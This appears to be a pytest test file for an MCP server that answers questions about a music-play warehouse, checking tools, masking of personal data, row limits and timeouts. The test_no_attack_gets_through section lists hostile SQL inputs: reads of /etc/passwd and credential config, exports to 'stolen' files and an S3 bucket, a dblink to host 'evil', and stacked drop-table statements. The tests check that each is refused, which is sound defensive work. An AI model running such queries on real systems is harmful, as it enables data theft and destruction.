"""`sparkify mcp`, asked by the official client over stdin and stdout."""

import json
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any, TypeVar

import anyio
import duckdb
import pytest
from mcp import Client, StdioServerParameters
from mcp.types import TextResourceContents

from sparkify.config import load_settings
from sparkify.engines.base import require_reading
from sparkify.errors import QueryError
from sparkify.serve import mcp_server
from sparkify.serve.mcp_server import ROWS_IN_ANSWER, WarehouseTools
from sparkify.sql.masking import READABLE, confined_query, masked_columns
from tests.command_line import COMMAND, call, environment
from tests.small_source import write_source

from .mcp_questions import QUESTIONS, RawEvents

Asked = TypeVar("Asked")


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = write_source(tmp_path_factory.mktemp("mcp"))
    assert call("etl", cwd=folder).code == 0
    return folder


def ask(folder: Path, question: Callable[[Client], Awaitable[Asked]], *options: str) -> Asked:
    """Start a server in a folder, and ask it by the client."""
    server = StdioServerParameters(
        command=sys.executable,
        args=[*COMMAND, "mcp", *options],
        cwd=folder,
        env=environment(folder),
    )

    async def asked() -> Asked:
        async with Client(server) as client:
            return await question(client)

    return anyio.run(asked)


def tool(folder: Path, name: str, *options: str, **arguments: Any) -> tuple[bool, Any]:
    """Call a tool; return whether it failed, and its answer, or what it said."""

    async def called(client: Client) -> Any:
        return await client.call_tool(name, arguments)

    result = ask(folder, called, *options)
    text = result.content[0].text
    return bool(result.is_error), text if result.is_error else json.loads(text)


def test_the_tools_and_resources_are_listed_with_what_they_do(loaded: Path) -> None:
    async def listed(client: Client) -> tuple[Any, Any, str | None]:
        return await client.list_tools(), await client.list_resources(), client.instructions

    tools, resources, instructions = ask(loaded, listed)

    assert {each.name for each in tools.tools} == {"metric", "query", "describe"}
    assert all(each.description for each in tools.tools)
    assert {str(each.uri) for each in resources.resources} == {
        "sparkify://dictionary",
        "sparkify://caveats",
        "sparkify://freshness",
    }
    assert "caveats" in (instructions or "")


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("generated")
    for command in ("generate", "etl"):
        assert call(command, cwd=folder).code == 0
    return folder


def test_forty_questions_are_answered_as_the_raw_data_says(generated: Path) -> None:
    raw = RawEvents.of(generated / "data/log_data")

    async def answers(client: Client) -> list[Any]:
        return [await client.call_tool(each.tool, each.arguments) for each in QUESTIONS]

    results = ask(generated, answers)

    assert len(QUESTIONS) == 40
    wrong = {}
    for question, result in zip(QUESTIONS, results, strict=True):
        said = result.content[0].text
        found = None if result.is_error else json.loads(said)["rows"]
        if found != question.answer(raw):
            wrong[question.words] = (said[:200], question.answer(raw)[:3])
    assert wrong == {}


def test_each_answer_says_how_far_to_trust_it(generated: Path) -> None:
    failed, answer = tool(generated, "metric", metrics=["plays"], by=["plan"])

    assert not failed
    assert answer["columns"] == ["plan", "plays"]
    assert answer["trust"]["latest_event"].endswith("+00:00")
    assert answer["trust"]["checks_not_passed"] == {}


def test_a_metric_without_meaning_is_refused_with_what_to_do(loaded: Path) -> None:
    failed, said = tool(loaded, "metric", metrics=["churn"], by=["hour"])

    assert failed
    assert "churn has no meaning by hour" in said
    assert "Try: ask for it by" in said


def test_the_rows_of_an_answer_are_bounded_and_it_says_so(
    generated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(generated)
    tools = WarehouseTools(load_settings(None, {}))

    cut = tools.query("select * from songplays", limit=10**9)
    whole = tools.query("select distinct level from songplays")

    assert (len(cut["rows"]), cut["is_cut"]) == (ROWS_IN_ANSWER, True)
    assert (len(whole["rows"]), whole["is_cut"]) == (2, False)


def test_a_query_that_takes_too_long_is_stopped(
    generated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(mcp_server, "SECONDS_OF_QUERY", 0.2)
    monkeypatch.chdir(generated)
    tools = WarehouseTools(load_settings(None, {}))
    crossed = ", ".join(f"songplays as s{number}" for number in range(4))

    with pytest.raises(QueryError, match="stopped"):
        tools.query(f"select sum(s0.session_id * s1.session_id) from {crossed}")


@pytest.mark.parametrize(
    "sql",
    [
        "select * from users",
        "select first_name || ' ' || last_name from plays",
        "select u from users as u",
        "select max(location), min(location) from songplays",
        "select columns('.*name') from users",
        "select * exclude (user_id) from users",
        "with everyone as (select * from users) select * from everyone",
        "select (select max(last_name) from users)",
        "from users",
        "select p.* from plays as p inner join users using (user_id)",
        "select * from plays where exists (select 1 from users where last_name > 'A')",
        "select * from (unpivot users on first_name, last_name)",
        "select list(first_name) from users union all select list(location) from plays",
    ],
)
def test_names_and_places_are_masked(
    loaded: Path, monkeypatch: pytest.MonkeyPatch, sql: str
) -> None:
    monkeypatch.chdir(loaded)

    answer = WarehouseTools(load_settings(None, {})).query(sql)

    text = json.dumps(answer)
    assert not any(each in text for each in ("Ada", "Ek", "Bo", "Winston"))
    assert answer["rows"]


def test_with_pii_they_are_shown(loaded: Path) -> None:
    _, names = tool(loaded, "query", "--pii", sql="select first_name from users order by 1")
    _, places = tool(loaded, "metric", "--pii", metrics=["plays"], by=["city"])
    failed, said = tool(loaded, "metric", metrics=["plays"], by=["city"])

    assert names["rows"] == [["Ada"], ["Bo"]]
    assert places["rows"] == [["Winston-Salem, NC", 4]]
    assert failed
    assert "city is masked here" in said


def test_what_is_masked_are_the_names_and_places_of_people() -> None:
    masked = {table: columns for table in READABLE if (columns := masked_columns(table))}

    assert masked["users"] == ["first_name", "last_name"]
    assert masked["songplays"] == ["location"]
    assert set(masked["plays"]) == {"first_name", "last_name", "location"}
    assert "artists" not in masked


ATTACKS = [
    "",
    "-- nothing",
    "create table x as select 1 as one",
    "insert into users select * from users",
    "update users set level = 'paid'",
    "delete from users",
    "truncate users",
    "drop table users",
    "alter table users add column x int",
    "copy users to 'stolen.csv'",
    "copy (select 1) to program 'touch stolen.csv'",
    "copy users from '/etc/passwd'",
    "attach 'stolen.duckdb' as stolen",
    "detach sparkify",
    "install httpfs",
    "load httpfs",
    "pragma database_list",
    "set enable_external_access = true",
    "export database 'stolen'",
    "import database 'stolen'",
    "checkpoint",
    "vacuum",
    "select 1; drop table users",
    "select 1; commit; drop table users",
    "begin; drop table users; commit",
    "select * into stolen from users",
    "with gone as (delete from users returning *) select * from gone",
    "explain analyze delete from users",
    "select * from read_text('/etc/passwd')",
    "select * from read_csv('/etc/passwd')",
    "select * from read_blob('dwh.cfg')",
    "select * from glob('/etc/*')",
    "select * from sniff_csv('/etc/passwd')",
    "select * from '/etc/passwd'",
    'select * from "/etc/passwd"',
    "from 'data/log_data/2018/a.json'",
    "select pg_read_file('/etc/passwd')",
    "select * from pg_ls_dir('/')",
    "select lo_import('/etc/passwd')",
    "select dblink('host=evil', 'select 1')",
    "unload ('select 1') to 's3://bucket/stolen' iam_role 'arn:aws:iam::1:role/r'",
    "call pragma_version()",
    "select * from duckdb_settings()",
    "select * from duckdb_secrets()",
    "select * from information_schema.tables",
    "select * from pg_catalog.pg_tables",
    "select * from query('select 1')",
    "select * from query_table('staging_events')",
    "select * from staging_events",
    "select * from load_errors",
    "select * from suppressed_users",
    "select * from main.staging_events",
    "select * from sparkify.main.users",
    "with users as (select 1 as one) select * from users",
    "select * from users, staging_events",
    "select (select max(userid) from staging_events)",
    "select * from users where user_id in (select userid from staging_events)",
    "with hidden as (select * from staging_events) select * from hidden",
    "summarize users",
    "describe users",
    "show all tables",
    "select getenv('HOME')",
]


def test_no_attack_gets_through(loaded: Path) -> None:
    before = content(loaded)

    async def attacked(client: Client) -> list[tuple[str, bool]]:
        found = []
        for sql in ATTACKS:
            result = await client.call_tool("query", {"sql": sql})
            found.append((sql, bool(result.is_error)))
        return found

    results = ask(loaded, attacked, "--pii")

    assert [sql for sql, failed in results if not failed] == []
    assert content(loaded) == before


def content(folder: Path) -> tuple[list[str], list[tuple[str, int]]]:
    """Return the files of a folder, and the rows of each table."""
    with duckdb.connect(folder / "sparkify.duckdb", read_only=True) as connection:
        tables = connection.execute("select table_name from duckdb_tables()").fetchall()
        rows = [(name, len(connection.table(f'"{name}"').fetchall())) for (name,) in sorted(tables)]
    return sorted(map(str, folder.rglob("*"))), rows


@pytest.mark.parametrize("dialect", ["duckdb", "postgres", "redshift"])
@pytest.mark.parametrize("sql", ATTACKS)
def test_an_attack_is_refused_or_read_only_in_each_dialect(sql: str, dialect: str) -> None:
    try:
        text = confined_query(sql, dialect, masked=True)
        require_reading(text, dialect)  # type: ignore[arg-type]  # a name of one
    except QueryError:
        return
    assert sql in {"select getenv('HOME')", "select dblink('host=evil', 'select 1')"}


def test_the_resources_are_read(loaded: Path) -> None:
    async def read(client: Client) -> list[str]:
        names = ("dictionary", "caveats", "freshness")
        found = [await client.read_resource(f"sparkify://{name}") for name in names]
        return [
            each.text
            for of_resource in found
            for each in of_resource.contents
            if isinstance(each, TextResourceContents)
        ]

    dictionary, caveats, freshness = ask(loaded, read)

    assert "## songplays" in dictionary
    assert "Winston" not in dictionary
    assert "Most plays have no `song_id`" in caveats
    assert json.loads(freshness)["latest_event"] == "2018-11-01T20:57:10.798000+00:00"


def test_without_a_warehouse_the_answer_says_what_to_do(tmp_path: Path) -> None:
    failed, said = tool(tmp_path, "metric", metrics=["plays"])

    assert failed
    assert "Try: " in said
    assert "Traceback" not in said
